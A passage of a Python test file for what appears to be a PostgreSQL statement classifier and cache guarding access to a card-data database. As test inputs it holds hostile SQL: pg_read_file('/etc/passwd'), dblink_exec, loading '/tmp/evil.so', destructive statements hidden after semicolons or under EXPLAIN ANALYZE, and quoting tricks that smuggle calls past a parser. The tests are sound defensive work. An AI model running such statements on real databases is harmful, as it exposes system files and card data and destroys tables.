    f = statement_facts("CALL audit_card((SELECT pan FROM cards LIMIT 1))")
    assert f.classes == {"function_call"}
    assert f.tables == {"public.cards"}
    assert f.columns == {"public.cards.pan"}
    assert f.functions == {"audit_card"}
    assert statement_facts("/* job */ CALL p(a => 1)").functions == {"p"}


# ------------------------------------------------------------------------------------------ row limits

LIMITS = [
    ("SELECT * FROM cards LIMIT 10", 10),
    ("SELECT * FROM cards LIMIT 0", 0),
    ("SELECT * FROM cards LIMIT 10 OFFSET 5", 10),
    ("SELECT * FROM cards OFFSET 5 LIMIT 10", 10),
    ("SELECT * FROM cards FETCH FIRST 5 ROWS ONLY", 5),
    ("SELECT * FROM cards FETCH NEXT 7 ROW ONLY", 7),
    ("SELECT * FROM cards FETCH FIRST ROW ONLY", 1),
    ("SELECT * FROM cards ORDER BY brand FETCH FIRST 5 ROWS WITH TIES", None),
    ("SELECT * FROM cards ORDER BY brand FETCH FIRST ROW WITH TIES", None),
    ("SELECT * FROM cards", None),
    ("SELECT * FROM cards LIMIT ALL", None),
    ("SELECT * FROM cards LIMIT NULL", None),
    ("SELECT * FROM cards LIMIT $1", None),
    ("SELECT * FROM cards LIMIT 10 + 1", None),
    ("SELECT * FROM cards LIMIT (10)", None),
    ("SELECT * FROM cards LIMIT 10.5", None),
    ("SELECT * FROM cards LIMIT 1e3", None),
    ("SELECT * FROM cards LIMIT 0x10", None),
    ("SELECT * FROM cards LIMIT '10'", None),
    ("SELECT * FROM cards LIMIT -1", None),
    ("SELECT * FROM cards LIMIT /**/ 10", 10),
    ("SELECT * FROM (SELECT * FROM cards LIMIT 10) s", None),  # the subquery's limit only
    ("SELECT * FROM cards WHERE id IN (SELECT id FROM cards LIMIT 1)", None),
    ("SELECT * FROM cards UNION SELECT * FROM cards2 LIMIT 10", 10),  # binds to the whole UNION
    ("SELECT * FROM a UNION (SELECT * FROM cards LIMIT 10)", None),
    ("(SELECT * FROM cards LIMIT 5) UNION ALL (SELECT * FROM cards LIMIT 5)", None),
    ("WITH x AS (SELECT * FROM cards) SELECT * FROM x LIMIT 3", 3),
    ("WITH x AS (SELECT * FROM cards LIMIT 3) SELECT * FROM x", None),
    ("TABLE cards LIMIT 1", 1),
    ("SELECT * FROM cards LIMIT 10 FOR UPDATE", 10),
    ("DECLARE c CURSOR FOR SELECT * FROM cards LIMIT 5", 5),
    ("DELETE FROM cards WHERE id = 1 RETURNING pan", None),
]


@pytest.mark.parametrize(("sql", "limit"), LIMITS)
def test_row_limit(sql: str, limit: int | None) -> None:
    f = statement_facts(sql)
    assert f.opaque is None
    assert f.row_limit == limit


# ------------------------------------------------------------------------------------------ opaque


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM cards LIMIT 1_000",
        "SELECT 1 ## 2 FROM cards",
        "SELECT xmlparse(document '<a/>')",
        "CREATE SCHEMA evil CREATE TABLE t AS SELECT * FROM public.cards",
        "CREATE RULE r AS ON INSERT TO cards DO ALSO DELETE FROM orders",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",  # SELECT: may hold a query
        "DO $$ BEGIN DELETE FROM cards; END $$",
        "LOAD '/tmp/evil.so'",
        "EXECUTE p",
        "FROBNICATE cards",
        "BEGIN; DELETE FROM cards",  # one statement at a time: the first's keywords cannot speak for both
        "SET work_mem = '1MB'; DROP TABLE cards",
        "-- only a comment",
        "",
    ],
)
def test_opaque(sql: str) -> None:
    f = statement_facts(sql)
    assert f.opaque
    assert f.tables == f.columns == f.functions == frozenset()
    assert f.conditions <= {"alter_system", "set_role", "set_session_authorization", "create_extension"}


def test_opaque_keeps_what_the_keywords_say() -> None:
    f = statement_facts("DO $$ BEGIN DROP TABLE cards; END $$")
    assert f.classes == {"function_call"}
    assert f.command == "do"
    f = statement_facts("FROBNICATE cards")
    assert (f.classes, f.command) == (frozenset(), "frobnicate cards")


@pytest.mark.parametrize(
    ("sql", "classes"),
    [
        # tcl / session / utility: the keywords say it all, sqlglot is not asked
        ("BEGIN ISOLATION LEVEL SERIALIZABLE READ WRITE", {"transaction"}),
        ("SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", {"transaction"}),
        ("VACUUM (VERBOSE, ANALYZE) cards", {"utility"}),
        ("LISTEN ch", {"utility"}),
        ("NOTIFY ch, 'payload'", {"utility"}),
        ("DEALLOCATE ALL", {"utility"}),
        ("FETCH FORWARD ALL FROM c", {"utility"}),
        # ddl / dcl sqlglot cannot parse, with no query inside: classified by their keywords
        ("REASSIGN OWNED BY bob TO alice", {"dcl"}),
        ("DROP OWNED BY bob", {"dcl"}),
        ("GRANT admin TO bob", {"dcl"}),
        ("ALTER EXTENSION dblink UPDATE", {"ddl"}),
        ("REINDEX TABLE cards", {"ddl"}),
        ("REFRESH MATERIALIZED VIEW v", {"ddl"}),
        ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", {"ddl"}),
        ("ALTER SYSTEM SET work_mem = '1GB'", {"ddl"}),
    ],
)
def test_statements_classified_by_their_keywords_are_not_opaque(sql: str, classes: set[str]) -> None:
    f = statement_facts(sql)
    assert f.opaque is None
    assert f.classes == classes


# ------------------------------------------------------------------------------------------ fuzz

_GAPS = st.sampled_from([" ", "  ", "\n", "\t", " /* c */ ", "/**/", " -- c\n", "\r\n", " /* /* n */ */ "])


def _case(word: str) -> st.SearchStrategy[str]:
    return st.sampled_from([word.lower(), word.upper(), word.capitalize(), word[0] + word[1:].upper()])


@settings(max_examples=300, deadline=None)
@given(
    st.data(),
    st.sampled_from(
        [
            "DELETE FROM cards",
            "UPDATE cards SET brand = 'x'",
            "INSERT INTO cards (pan) VALUES ('4111111111111111')",
            "WITH x AS (DELETE FROM cards RETURNING 1) SELECT 1",
            "SELECT pg_read_file('/etc/passwd')",
            "CREATE TABLE loot AS SELECT * FROM cards",
        ]
    ),
)
def test_explain_analyze_never_hides_what_it_runs(data: st.DataObject, inner: str) -> None:
    analyze = data.draw(_case(data.draw(st.sampled_from(["analyze", "analyse"]))))
    options = data.draw(
        st.sampled_from(
            [
                f"{analyze}",
                f"{analyze}{{gap}}verbose",
                f"({analyze})",
                f"({analyze}{{gap}}true)",
                f"(format json,{{gap}}{analyze})",
                f'("{analyze.lower()}")',
            ]
        )
    )
    sql = (
        data.draw(st.sampled_from(["", " ", "\n"]))
        + data.draw(_case("explain"))
        + data.draw(_GAPS)
        + options.replace("{gap}", data.draw(_GAPS))
        + data.draw(_GAPS)
        + inner
    )
    assert not harmless(statement_facts(sql)), sql


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["", "/* a */ ", "-- b\n"]),
    st.sampled_from(
        [
            "pg_read_file",
            "pg_catalog.pg_read_file",
            '"pg_read_file"',
            "PG_READ_FILE",
            "pg_catalog.dblink_exec",
        ]
    ),
    st.sampled_from(
        [
            "SELECT {f}('x')",
            "SELECT * FROM cards WHERE pan = {f}('x')",
            "SELECT * FROM (SELECT {f}('x') AS y) s",
            "WITH z AS (SELECT {f}('x')) SELECT * FROM z",
            "SELECT a FROM cards ORDER BY {f}('x')",
            "SELECT a FROM cards, LATERAL {f}('x') AS l",
            "SELECT coalesce(lower({f}('x')), '')",
            "UPDATE cards SET brand = {f}('x') WHERE id = 1",
            "DECLARE c CURSOR FOR SELECT {f}('x')",
            "PREPARE p AS SELECT {f}('x')",
            "EXPLAIN ANALYZE SELECT {f}('x')",
            "CALL p({f}('x'))",
            "COPY (SELECT {f}('x')) TO STDOUT",
        ]
    ),
)
def test_a_dangerous_call_is_seen_wherever_it_is(lead: str, name: str, template: str) -> None:
    f = statement_facts(lead + template.format(f=name))
    assert f.opaque is not None or "dangerous_function" in f.conditions


_KEYWORDS = """
    SELECT FROM cards WHERE DELETE UPDATE SET INSERT INTO VALUES WITH AS EXPLAIN ANALYZE PREPARE DECLARE
    CURSOR FOR COPY TO STDOUT PROGRAM LIMIT FETCH FIRST ROWS ONLY CALL DO EXECUTE MERGE UNION RETURNING
    JOIN ON USING LATERAL ROLE SESSION AUTHORIZATION LOCAL TABLE CREATE DROP pg_read_file p x
"""
_PUNCTUATION = ["(", ")", ",", "*", "=", ".", "::", ";", "'x'", "$$ $$", "$1", "1", '"q"', 'U&"x"', "--c\n"]
_SOUP = st.sampled_from([*_KEYWORDS.split(), *_PUNCTUATION, "/*c*/"])


@settings(max_examples=500, deadline=None)
@given(st.lists(_SOUP, max_size=14))
def test_any_text_gets_facts(words: list[str]) -> None:
    # Whatever comes in, the reading ends in facts (opaque if need be), never in an exception.
    f = statement_facts(" ".join(words))
    assert f.opaque is None or isinstance(f.opaque, str)


# ------------------------------------------------------------------------------------------ cache


def _counting(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    parsed: list[str] = []

    def counted(text: str, *, scs_on: bool = False) -> Facts:
        parsed.append(text)
        return statement_facts(text, scs_on=scs_on)

    monkeypatch.setattr(facts_module, "statement_facts", counted)
    return parsed


def test_cache_shares_statements_that_differ_in_literals(monkeypatch: pytest.MonkeyPatch) -> None:
    parsed = _counting(monkeypatch)
    cache = FactsCache()
    a = cache.facts("SELECT brand FROM cards WHERE pan = '4111111111111111' AND id = 1")
    b = cache.facts("select brand  from cards where pan = '5500000000000004' /* x */ and id = 2")
    assert a is b
    assert len(parsed) == 1


@pytest.mark.parametrize(
    ("small", "large", "expected"),
    [
        ("SELECT * FROM cards LIMIT 10", "SELECT * FROM cards LIMIT 1000", (10, 1000)),
        ("SELECT * FROM cards LIMIT /**/ 10", "SELECT * FROM cards LIMIT /**/ 100000", (10, 100000)),
        ("SELECT * FROM cards LIMIT 10", "SELECT * FROM cards LIMIT 10e6", (10, None)),
        ("SELECT * FROM cards LIMIT 0", "SELECT * FROM cards LIMIT 0x7fffffff", (0, None)),
        ("SELECT * FROM cards LIMIT 1", "SELECT * FROM cards LIMIT 1_000_000", (1, None)),
        ("SELECT * FROM cards LIMIT 5", "SELECT * FROM cards LIMIT '5000'", (5, None)),
        (
            "SELECT * FROM cards FETCH FIRST 2 ROWS ONLY",
            "SELECT * FROM cards FETCH FIRST 2000 ROWS ONLY",
            (2, 2000),
        ),
        ("SELECT * FROM cards LIMIT 3 OFFSET 1", "SELECT * FROM cards LIMIT 3000 OFFSET 1", (3, 3000)),
    ],
)
def test_cache_tells_row_limits_apart(
    small: str, large: str, expected: tuple[int | None, int | None]
) -> None:
    cache = FactsCache()
    assert (cache.facts(small).row_limit, cache.facts(large).row_limit) == expected
    assert (cache.facts(small).row_limit, cache.facts(large).row_limit) == expected  # and from the cache


@pytest.mark.parametrize(
    "twin",
    [
        "SELECT 'a\\', 1 --', pg_read_file('/x')",  # read with standard_conforming_strings on: SELECT ?, ?
        "SELECT '\udc83', 1",  # not UTF-8: in SJIS a backslash byte can be half of a character
    ],
)
def test_cache_does_not_lend_a_harmless_twins_facts_to_an_opaque_statement(twin: str) -> None:
    cache = FactsCache()
    assert cache.facts("SELECT 'x', 1").opaque is None
    assert cache.facts(twin).opaque is not None


def test_cache_evicts_the_least_recently_used(monkeypatch: pytest.MonkeyPatch) -> None:
    parsed = _counting(monkeypatch)
    cache = FactsCache(size=2)
    cache.facts("SELECT 1 FROM a")
    cache.facts("SELECT 1 FROM b")
    cache.facts("SELECT 1 FROM a")  # a is now the most recent
    cache.facts("SELECT 1 FROM c")  # evicts b
    assert len(parsed) == 3
    cache.facts("SELECT 1 FROM a")
    assert len(parsed) == 3
    cache.facts("SELECT 1 FROM b")
    assert parsed[-1] == "SELECT 1 FROM b"
    assert len(parsed) == 4


_LIMIT_FORMS = st.sampled_from(
    [
        "0",
        "1",
        "10",
        "100",
        "1000",
        "10e6",
        "0x10",
        "1_000",
        "'10'",
        "$1",
        "ALL",
        "/**/ 7",
        "(5)",
        "2.5",
        "-- c\n9",
    ]
)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.integers(0, 10**6), st.text("abc4'", max_size=5), st.none() | _LIMIT_FORMS), max_size=8
    )
)
def test_cache_answers_as_a_fresh_reading_would(statements: list[tuple[int, str, str | None]]) -> None:
    cache = FactsCache(size=4)
    for number, text, limit in statements:
        quoted = text.replace("'", "''")
        sql = f"SELECT pan FROM cards WHERE id = {number} AND brand = '{quoted}'"
        if limit is not None:
            sql += f" LIMIT {limit}"
        assert cache.facts(sql) == statement_facts(sql), sql


@pytest.mark.parametrize(
    ("sql", "cls", "columns"),
    [
        ('COPY "a"("i", "s") FROM STDIN (FORMAT binary)', "copy_in", {"public.a.i", "public.a.s"}),
        ("COPY t TO STDOUT (FORMAT csv, DELIMITER ';', HEADER)", "copy_out", {"public.t.*"}),
        ("COPY (SELECT pan FROM cards) TO STDOUT (FORMAT binary)", "copy_out", {"public.cards.pan"}),
    ],
)
def test_copy_option_lists_sqlglot_cannot_read(sql: str, cls: str, columns: set[str]) -> None:
    """Drivers send these (asyncpg's copy_records_to_table, psycopg's copy): read without the options."""
    facts = statement_facts(sql)
    assert facts.opaque is None and facts.classes == {cls} and facts.columns == columns


def test_copy_with_a_where_clause_after_options_stays_opaque() -> None:
    assert statement_facts("COPY t FROM STDIN (FORMAT csv) WHERE pg_read_file('x') > ''").opaque


def test_a_backslash_string_is_readable_when_the_session_reads_with_standard_conforming_strings_on() -> None:
    sql = "SELECT 1::int8, '\\x0102'::bytea"
    assert statement_facts(sql).opaque  # the setting not known: opaque
    known = statement_facts(sql, scs_on=True)
    assert known.opaque is None and known.classes == {"read"}
    cache = FactsCache()
    assert cache.facts(sql).opaque and cache.facts(sql, scs_on=True).opaque is None


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SELECT set_config( 'client_encoding' , 'SJIS', false)",
    ],
)
def test_set_config_of_reading_settings_is_opaque(sql: str) -> None:
    assert statement_facts(sql, scs_on=True).opaque


def test_set_config_of_an_application_setting_is_not_opaque() -> None:
    facts = statement_facts("SELECT set_config('app.user', 'alice', false)", scs_on=True)
    assert facts.opaque is None and "dangerous_function" in facts.conditions
